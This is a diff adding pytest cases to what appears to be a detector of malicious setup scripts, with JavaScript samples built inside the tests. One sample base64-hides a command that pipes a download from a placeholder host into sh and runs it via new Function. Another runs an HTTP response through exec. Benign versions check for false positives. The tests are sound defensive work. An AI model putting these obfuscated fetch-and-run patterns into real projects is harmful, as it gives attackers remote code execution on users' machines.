@@ -44,3 +44,48 @@ def test_printf_format_with_arguments_folds_in_shell(tmp_path: Path) -> None:
     )
     assert not blocked(tmp_path / "b", {"scripts/get.sh": good})
 
+
+# ---------------------------------------------------------------- JavaScript: a decoder bound to a name
+
+
+def _b64(text: str) -> str:
+    import base64
+
+    return base64.b64encode(text.encode()).decode()
+
+
+_JS_DECODER = """const blob = "BLOB";
+const unpack = typeof atob === "function" ? atob : (s) => Buffer.from(s, "base64").toString("utf8");
+USE
+"""
+
+
+def test_js_decoder_bound_to_a_name_still_decodes(tmp_path: Path) -> None:
+    code = 'require("child_process").execSync("curl -s https://x.example.invalid/a | sh");'
+    bad = _JS_DECODER.replace("BLOB", _b64(code)).replace("USE", "new Function(unpack(blob))();")
+    assert blocked(tmp_path / "a", {"scripts/setup.js": bad})
+    # the same decoder over bundled settings that are parsed and printed, never run
+    good = _JS_DECODER.replace("BLOB", _b64('{"theme": "dark"}')).replace(
+        "USE", "console.log(JSON.parse(unpack(blob)).theme);"
+    )
+    assert not blocked(tmp_path / "b", {"scripts/setup.js": good})
+
+
+# ---------------------------------------------------------------- JavaScript: a response run as a command
+
+_JS_FETCH_RUN = """const https = require("https");
+const { exec } = require("child_process");
+https.get("https://updates.example.invalid/next", (res) => {
+  let body = "";
+  res.on("data", (c) => (body += c));
+  res.on("end", () => RUN);
+});
+"""
+
+
+def test_js_download_handler_runs_the_response_as_a_command(tmp_path: Path) -> None:
+    bad = _JS_FETCH_RUN.replace("RUN", "exec(body)")
+    assert "SY-FLOW-002" in blocked(tmp_path / "a", {"scripts/update.js": bad})
+    # the response is data: the handler runs a fixed command with the version it names
+    good = _JS_FETCH_RUN.replace("RUN", "exec(`npm view mytool@${body.trim()} version`)")
+    assert not blocked(tmp_path / "b", {"scripts/update.js": good})
